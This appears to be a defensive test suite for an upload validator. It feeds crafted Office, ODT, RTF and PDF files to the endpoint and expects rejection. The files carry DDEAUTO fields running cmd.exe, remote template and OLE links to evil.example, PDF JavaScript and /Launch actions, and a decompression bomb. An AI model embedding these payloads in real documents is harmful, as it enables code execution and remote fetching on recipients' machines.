import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openTestShop, type TestShop } from '#testing/test-shop.ts'
import { aFileForm, aZip } from './uploads.samples.ts'
import { tempFiles } from './uploads.tables.ts'

let shop: TestShop

beforeAll(async () => {
  shop = await openTestShop()
})
afterAll(() => shop.close())

const upload = (bytes: Buffer | string) =>
  shop.ask({ method: 'POST', url: '/api/utils/temp-file/', ...aFileForm({ name: 'file', bytes }) })

type Part = { name: string; text: string | Buffer }
const docx = (...parts: Part[]) => aZip([{ name: '[Content_Types].xml', text: '<Types/>' }, ...parts])
const main = (text: string | Buffer = '<document/>') => ({ name: 'word/document.xml', text })
const officeTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const related = (type: string, target: string, folder = 'word') => ({
  name: `${folder}/_rels/part.xml.rels`,
  text: `<Relationships><Relationship Id="r1" Type="${officeTypes}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
})
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
const turn = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const field = (...pieces: string[]) =>
  docx(main(`<w:document>${turn('begin')}${pieces.map(run).join('')}${turn('separate')}${turn('end')}</w:document>`))
const odt = (content: string) =>
  aZip([
    { name: 'mimetype', text: 'application/vnd.oasis.opendocument.text' },
    { name: 'content.xml', text: `<office:document-content>${content}</office:document-content>` },
  ])
const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects.flatMap((each) => [Buffer.from(each), Buffer.from('\n')])])
const objectStream = (text: string | Buffer, type = '/ObjStm') =>
  Buffer.concat([
    Buffer.from(`4 0 obj\n<</Type ${type} /N 1 /First 4 /Filter /FlateDecode>>\nstream\r\n`),
    deflateSync(text),
    Buffer.from('\nendstream\nendobj'),
  ])

const away = [
  'http://evil.example/a',
  'https://evil.example/a',
  'mhtml:http://evil.example/a!x-usc:b',
  'file://evil.example/share/a',
  'file:////evil.example/share/a',
  String.raw`file:///\\evil.example\share\a`,
  String.raw`\\evil.example\share\a`,
]
const relations = ['oleObject', 'frame', 'subDocument', 'attachedTemplate'].flatMap((type) =>
  away.map((target): [string, Buffer] => [`a relation ${type} to ${target}`, docx(main(), related(type, target))]),
)

test.each<[string, Buffer | string]>([
  ...relations,
  [
    'a linked object of a workbook',
    aZip([
      { name: '[Content_Types].xml', text: '<Types/>' },
      { name: 'xl/workbook.xml' },
      related('oleObject', away[0]!, 'xl'),
    ]),
  ],
  [
    'a linked object of slides',
    aZip([
      { name: '[Content_Types].xml', text: '<Types/>' },
      { name: 'ppt/presentation.xml' },
      related('oleObject', away[0]!, 'ppt'),
    ]),
  ],
  [
    'a relation with two types',
    docx(main(), {
      name: 'word/_rels/part.xml.rels',
      text: `<Relationship x:Type="hyperlink" Type="${officeTypes}/oleObject" Target="http://evil.example"/>`,
    }),
  ],
  ['a chunk of RTF', docx(main(), related('aFChunk', 'afchunk.rtf'), { name: 'word/afchunk.rtf', text: '{\\rtf1' })],
  ['a chunk of HTML', docx(main(), related('aFChunk', 'chunk.html'))],
  ['a chunk of MHT', docx(main(), related('aFChunk', 'chunk.mht'))],
  ['DDEAUTO in a document', field(String.raw` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`)],
  ['DDE cut into runs', field(' D', 'D', 'E cmd "/k calc"')],
  ['DDE with character references', field('&#68;DEAUTO cmd')],
  ['DDE behind a comment', field('DD<!-- -->EAUTO cmd')],
  ['DDE in CDATA', field('<![CDATA[DDEAUTO cmd]]>')],
  ['DDE inside another field', docx(main(turn('begin') + run('IF ') + turn('begin') + run('DDE cmd') + turn('end')))],
  ['DDE far behind', field(`${' '.repeat(70_000)}DDEAUTO cmd`)],
  ['DDE in UTF-16', docx(main(Buffer.from(`\ufeff<d>${turn('begin')}${run('DDE cmd')}</d>`, 'utf16le')))],
  ['a simple field with DDE', docx(main('<w:fldSimple w:x=">" w:instr="DDEAUTO cmd"/>'))],
  ['DDE in a header', docx(main(), { name: 'word/header1.bin', text: turn('begin') + run('DDEAUTO cmd') })],
  ['INCLUDETEXT of a site', field('INCLUDETEXT &quot;http://evil.example/a.docx&quot;')],
  ['INCLUDEPICTURE of a site', field(String.raw`INCLUDEPICTURE \d "https://evil.example/a.png" \* MERGEFORMAT`)],
  ['INCLUDEPICTURE of a share', field(String.raw`INCLUDEPICTURE "\\\\evil.example\\share\\a.png"`)],
  [
    'DDE of a workbook',
    aZip([
      { name: '[Content_Types].xml', text: '<Types/>' },
      { name: 'xl/workbook.xml' },
      { name: 'xl/externalLinks/externalLink1.xml', text: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/>' },
    ]),
  ],
  ['an object of ODT from a site', odt('<draw:object xlink:href="http://evil.example/a.odt"/>')],
  ['a section of ODT from a share', odt('<text:section-source xlink:href="file://evil.example/a.odt"/>')],
  ['a frame of ODT', odt('<draw:floating-frame xlink:href="https://evil.example"/>')],
  ['DDE of ODT', odt('<text:dde-connection-decl office:dde-application="cmd"/>')],
  ['RTF with a template of a site', String.raw`{\rtf1{\*\template http://evil.example/a.dotm}}`],
  ['RTF with a template by codes', String.raw`{\rtf1{\*\template \'68\u116?tp://evil.example/a.dotm}}`],
  ['RTF with a template of a share', String.raw`{\rtf1{\*\template \\\\evil.example\\a.dotm}}`],
  ['RTF with DDE', String.raw`{\rtf1{\field{\*\fldinst { DDEAUTO cmd "/k calc"}}}}`],
  ['RTF with DDE cut into groups', "{\\rtf1{\\field{\\*\\fldinst {\\b D}{\\i \\'44}{E\nAUTO cmd}}}}"],
  ['RTF with DDE far behind', `{\\rtf1 ${'a'.repeat(65_510)}{\\*\\fldinst {\\b D}{\\i DE cmd}}}`],
  ['RTF with DDE inside a field', String.raw`{\rtf1{\*\fldinst IF {\field{\*\fldinst DDE cmd}}}}`],
  ['RTF with DDE behind bytes', String.raw`{\rtf1{\*\fldinst {\bin3 }}}DDE cmd}}`],
  ['RTF with a picture of a site', String.raw`{\rtf1{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png"}}`],
  [
    'an old document with DDE',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('WordDocument\x13 DDEAUTO cmd', 'utf16le')]),
  ],
  ['PDF with a script', pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj')],
  ['PDF with a name in codes', pdf('1 0 obj<</OpenAction<</S/J#61vaScrip#74>>>>endobj')],
  ['PDF with a script of a rendition', pdf('1 0 obj<</S/Rendition/OP 0/JS (app.alert)>>endobj')],
  ['PDF that starts a program', pdf('1 0 obj<</S /Launch /F (cmd.exe)>>endobj')],
  ['PDF with a file', pdf('1 0 obj<</Type/EmbeddedFile/Length 0>>stream\nendstream endobj')],
  ['PDF with a script in packed objects', pdf(objectStream('1 0 <</S/JavaScript/JS 2 0 R>>'))],
  ['PDF with codes in packed objects', pdf(objectStream('1 0 <</S/#4aavaScript>>', '/Obj#53tm'))],
  ['PDF with the second packed objects', pdf(objectStream('1 0 <<>>'), objectStream('1 0 <</S/Launch>>'))],
  ['PDF with a script behind 64 KB', pdf(`%${'a'.repeat(65_520)}\n`, '<</S/JavaScript>>')],
])('refuses %s and keeps nothing', async (_, bytes) => {
  const message = expect.stringMatching(/запускает команды/)
  expect(await upload(bytes)).toMatchObject({ status: 400, body: { file: [message] } })
  expect([await shop.db.$count(tempFiles), readdirSync(join(shop.folder, 'uploads'))]).toEqual([0, []])
})

const local = ['file:///C:\\Users\\anna\\a.docx', 'file:///home/anna/a.docx', 'C:\\a.docx', '../a.docx', 'file://C:/a']

test.each<[string, Buffer | string]>([
  ['a hyperlink', docx(main(), related('hyperlink', 'https://shop.example/frame'))],
  [
    'links between workbooks',
    aZip([
      { name: '[Content_Types].xml', text: '<Types/>' },
      { name: 'xl/workbook.xml' },
      related('externalLinkPath', 'https://company.example/b.xlsx', 'xl/externalLinks'),
    ]),
  ],
  ...local.map((target): [string, Buffer] => [`an object at ${target}`, docx(main(), related('oleObject', target))]),
  ['a page number', field(' PAGE ', String.raw`\* MERGEFORMAT `)],
  ['a link in a field', field('HYPERLINK &quot;https://shop.example/&quot;')],
  ['a picture of a letter', field(String.raw`INCLUDEPICTURE "cid:image001.png@01" \* MERGEFORMAT`)],
  ['a picture of this computer', field(String.raw`INCLUDEPICTURE "C:\\Users\\anna\\a.png"`)],
  ['a long drawing', docx(main(`<v:shape o:gfxdata="${'a'.repeat(400_000)}"/>`))],
  ['a link and a chart of ODT', odt('<text:a xlink:href="https://a.example"/><draw:object xlink:href="./Object 1"/>')],
  ['RTF with a link', String.raw`{\rtf1{\*\template C:\\Normal.dotm}{\*\fldinst{HYPERLINK "https://shop.example"}}}`],
  ['PDF that opens at a page', pdf('1 0 obj<</OpenAction[3 0 R /Fit]/JSON true/LaunchPad 1>>endobj')],
  ['PDF with pictures', pdf('1 0 obj<<>>stream\n', Buffer.from('\xff\x81\x02/JS (\x90\xfe', 'latin1'), '\nendstream')],
  ['PDF with packed objects', pdf(objectStream('1 0 <</Type/Page>>'), objectStream(Buffer.from('2 0 <<>>')))],
  ['PDF whose packed objects are encrypted', pdf('<</Type/ObjStm>>stream\n', Buffer.alloc(900, 7), 'endstream endobj')],
])('accepts %s', async (_, bytes) => {
  expect((await upload(bytes)).status).toBe(201)
})

/** Stream of empty stored blocks in which each object stream begins inside the previous one. */
function overlaidObjects(count: number): Buffer {
  const empty = Buffer.from('000000ffff', 'hex')
  const mark = Buffer.from('/ObjStm stream\n\x78\x01', 'latin1')
  const block = Buffer.alloc(5)
  block.writeUInt16LE(mark.length, 1)
  block.writeUInt16LE(0xffff - mark.length, 3)
  const blocks = Array.from({ length: count }, () => Buffer.concat([block, mark, empty]))
  return Buffer.concat([Buffer.from('%PDF-1.7\n/ObjStm stream\n\x78\x01', 'latin1'), ...blocks])
}

test('refuses packed objects that overlap or are too many', async () => {
  const overlaid = overlaidObjects(3_000)
  const bomb = pdf(objectStream(Buffer.alloc(140 * 1024 * 1024)))
  const many = `%PDF-1.7\n/ObjStm${' stream\n'.repeat(20_001)}`
  for (const bytes of [overlaid, bomb, many])
    expect(await upload(bytes)).toMatchObject({ status: 400, body: { file: [expect.stringMatching(/повреждён/)] } })
})

test('refuses a field that never ends', async () => {
  const nested = docx(main(turn('begin').repeat(501)))
  const endless = docx(main(`<w:fldSimple ${' '.repeat(300_000)}w:instr="DDE cmd"/>`))
  for (const bytes of [nested, endless])
    expect(await upload(bytes)).toMatchObject({ status: 400, body: { file: [expect.stringMatching(/повреждён/)] } })
})
